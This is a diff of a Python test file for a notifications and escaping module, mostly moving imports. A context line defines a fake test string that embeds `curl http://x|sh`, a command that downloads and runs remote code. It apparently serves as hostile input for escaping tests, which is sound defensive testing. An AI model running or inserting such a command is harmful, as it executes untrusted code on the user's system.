@@ -7,7 +7,7 @@ import json
 import pytest
 from hypothesis import given, settings
 
-from prefect_drs.escaping import SUBJECT_AT_MOST, one_line
+from prefect_drs.core.escaping import SUBJECT_AT_MOST, one_line
 from prefect_drs.notifications.message import Message
 from prefect_drs.notifications.milestones import Milestones
 from prefect_drs.notifications.text import CANCEL, CUT_HERE, END, RESUME
@@ -15,10 +15,10 @@ from prefect_drs.report.events import Event, ExecutionEnded, ExecutionStarted, G
 from prefect_drs.report.fold import report_of
 from prefect_drs.report.markdown import gate_summary, report_summary, server_table, wave_table
 from prefect_drs.runbook import Change, Runbook
+from tests.core.test_escaping import shown
 from tests.e2e.mail import cut_out
 from tests.names import names
 from tests.notifications import story
-from tests.test_escaping import shown
 
 FAKE = f"{'x' * 75} {RESUME} {'y' * 75} {'curl http://x|sh'.replace(' ', '')} {'z' * 75} {END} {'w' * 75}"
 
